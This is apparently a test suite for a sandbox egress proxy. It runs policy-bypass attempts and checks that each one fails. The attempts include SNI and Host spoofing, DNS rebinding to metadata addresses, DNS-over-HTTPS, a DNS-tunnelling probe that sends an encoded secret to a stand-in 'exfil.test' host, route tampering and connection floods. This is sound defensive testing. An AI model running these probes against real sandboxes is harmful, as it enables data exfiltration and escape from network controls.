"""Hostile egress: a sandbox that tries to get past its policy (issue 10). Each attack is run
from inside a sandbox allowed exactly one name (allowed.test) and its address; the servers it
tries to reach record every connection, and the test DNS server every query, so a bypass
shows as a hit or a query. Afterwards coved and a second sandbox still work."""
import os
import sys

import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import egress_world  # noqa: E402
from egress_world import world, coved  # noqa: E402,F401 (fixtures)
from egress_world import HTTP_PORT, HTTPS_PORT, DNS_ADDRESS, allow  # noqa: E402

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                                "e2e"))
from test_egress import curl, served_by, events  # noqa: E402

pytestmark = egress_world.needs_dnsmasq


@pytest.fixture
def sid(coved, world):
    s = coved.create(networkPolicy=allow("allowed.test", "127.77.0.10"))
    with open(world.ca) as f:
        coved.sh(s, f"cat > /tmp/test-ca.pem <<'EOF'\n{f.read()}EOF")
    world.recorder.clear()
    yield s
    coved.delete(s)
    # the host, coved and another sandbox are fine afterwards
    assert coved.health()["status"] == "healthy"
    other = coved.create(networkPolicy=allow("allowed.test", "127.77.0.10"))
    out = coved.sh(other, f"curl -sS -m 10 http://allowed.test:{HTTP_PORT}/after")
    assert served_by(out) == "127.77.0.10"
    coved.delete(other)


def test_sni_spoofing_reaches_the_allowed_name_not_the_chosen_address(coved, sid, world):
    # TLS to the denied server's address with the allowed name: coved connects to what the name
    # resolves to, so the denied server never sees a connection
    code, out = curl(coved, sid, f"https://allowed.test:{HTTPS_PORT}/spoof",
                     f"--resolve allowed.test:{HTTPS_PORT}:127.77.0.11")
    assert code == 0 and served_by(out) == "127.77.0.10", out
    # the same with plain HTTP and a forged Host header
    code, out = curl(coved, sid, f"http://127.77.0.11:{HTTP_PORT}/spoof", "-H 'Host: allowed.test'")
    assert code == 0 and served_by(out) == "127.77.0.10", out
    assert world.recorder.to("127.77.0.11") == []


def test_ip_literals_are_denied(coved, sid, world):
    for url in (f"http://127.77.0.11:{HTTP_PORT}/", f"https://127.77.0.11:{HTTPS_PORT}/",
                f"http://[::ffff:127.77.0.11]:{HTTP_PORT}/"):
        code, out = curl(coved, sid, url, "-k")
        assert code != 0 or "cove egress" in out, (url, out)
    assert world.recorder.to("127.77.0.11") == []


def test_rebinding_into_denied_ranges_fails(coved, world):
    s = coved.create(networkPolicy=allow("rebind.test", "metadata.test", "allowed.test",
                                         "127.77.0.10"))
    try:
        # the names are allowed; what they resolve to (loopback, 169.254.169.254) is not
        assert coved.exec(s, "getent hosts rebind.test").exit_code != 0
        for name, port in (("rebind.test", coved.port), ("metadata.test", 80)):
            code, out = curl(coved, s, f"http://{name}:{port}/health",
                             f"--resolve {name}:{port}:127.77.0.10")
            assert "healthy" not in out and (code != 0 or "cove egress" in out), out
        ev = events(coved, s)
        assert any(e["action"] == "deny" and e["name"] == "rebind.test"
                   and "127.0.0.1" in e["rule"] for e in ev), ev
    finally:
        coved.delete(s)


def test_doh_to_a_resolver_that_is_not_allowed_fails(coved, sid, world):
    code, out = curl(coved, sid, f"https://doh.test:{HTTPS_PORT}/dns-query?name=denied.test",
                     f"--resolve doh.test:{HTTPS_PORT}:127.77.0.15", "-H 'accept: application/dns-json'")
    assert code != 0, out
    assert world.recorder.to("127.77.0.15") == []


def test_dns_tunnelling_of_denied_names_never_leaves_coved(coved, sid, world):
    before = world.dns_queries().count("exfil.test")
    secret = "c2VjcmV0LWRhdGE"
    for i in range(5):
        coved.exec(sid, f"getent hosts {secret}{i}.exfil.test")
    # over TCP too, straight to the sandbox's resolver
    probe = ("import socket,struct; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00"
             "\\x00\\x00'+b''.join(bytes([len(l)])+l for l in b'%stcp.exfil.test'.split(b'.'))"
             "+b'\\x00\\x00\\x01\\x00\\x01'; s=socket.create_connection(('127.0.0.11',53),"
             "timeout=5); s.sendall(struct.pack('!H',len(q))+q); r=s.recv(600);"
             "print('rcode', r[5] & 15)" % secret)
    out = coved.sh(sid, f'python3 -c "{probe}"')
    assert "rcode 3" in out, out  # NXDOMAIN
    assert world.dns_queries().count("exfil.test") == before
    assert secret not in world.dns_queries()


def test_udp_goes_nowhere_but_the_sandbox_resolver(coved, sid, world):
    sink_port = world.udp_sink.getsockname()[1]
    probe = ("import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
             "for a,p in [('127.77.0.20',%d),('%s',%d),('8.8.8.8',53)]:\n"
             "    try: s.sendto(b'x',(a,p)); print('sent',a)\n"
             "    except OSError as e: print('refused',a,e.errno)\n" %
             (sink_port, DNS_ADDRESS, world.dns_port))
    out = coved.sh(sid, f"python3 -c \"{probe}\"")
    assert "sent" not in out, out
    assert world.udp_received() == []


def test_the_sandbox_cannot_undo_its_network(coved, sid, world):
    # as root inside: drop the default route, take coved's ports, raw sockets, a new netns
    out = coved.exec(sid, "ip route del default 2>&1; ip route add default via 127.0.0.2 2>&1;"
                          "python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1',999))\""
                          " 2>&1 | tail -1;"
                          "python3 -c \"import socket; socket.socket(socket.AF_INET,"
                          "socket.SOCK_RAW,socket.IPPROTO_TCP)\" 2>&1 | tail -1;"
                          "unshare -n true 2>&1; echo done").stdout
    assert "done" in out
    assert coved.sh(sid, "ip route show").strip().startswith("default dev lo"), out
    code, out2 = curl(coved, sid, f"http://other.test:{HTTP_PORT}/",
                      f"--resolve other.test:{HTTP_PORT}:127.77.0.11")
    assert code != 0 or "cove egress" in out2
    code, out2 = curl(coved, sid, f"http://allowed.test:{HTTP_PORT}/still")
    assert code == 0 and served_by(out2) == "127.77.0.10", (out, out2)
    assert world.recorder.to("127.77.0.11") == []


def test_many_connections_and_slow_clients_cost_bounded(coved, sid, world):
    # 300 connections that never say where they go, then normal traffic still works
    probe = ("import socket,time\nss=[]\nfor i in range(300):\n"
             "    try: ss.append(socket.create_connection(('127.77.0.11',%d),timeout=2))\n"
             "    except OSError: pass\nprint(len(ss)); time.sleep(1)\n" % HTTP_PORT)
    out = coved.sh(sid, f"python3 -c \"{probe}\"")
    assert int(out.split()[0]) > 0
    code, out = curl(coved, sid, f"http://allowed.test:{HTTP_PORT}/after-flood")
    assert code == 0 and served_by(out) == "127.77.0.10", out
    assert world.recorder.to("127.77.0.11") == []


def test_a_kept_alive_http_connection_cannot_switch_host(coved, sid, world):
    # the policy decided on the first request's Host; a second request on the same connection
    # naming a denied host must not reach the server (coved asks it to close after the first)
    probe = ("import socket; s=socket.create_connection(('allowed.test',%d),timeout=5);"
             "s.sendall(b'GET /one HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n');"
             "import time; time.sleep(0.5);"
             "s.sendall(b'GET /two HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n');"
             "time.sleep(0.5); data=b''\n"
             "try:\n"
             "    while True:\n"
             "        k=s.recv(65536)\n"
             "        if not k: break\n"
             "        data+=k\n"
             "except OSError: pass\n"
             "print(data.count(b'HTTP/1.'))" % HTTP_PORT)
    out = coved.sh(sid, f"python3 -c \"{probe}\"")
    assert out.strip() == "1", out
    hits = [(h[2], h[3].get("Host")) for h in world.recorder.to("127.77.0.10")]
    assert ("/one", "allowed.test") in hits and not any(p == "/two" for p, _ in hits), hits
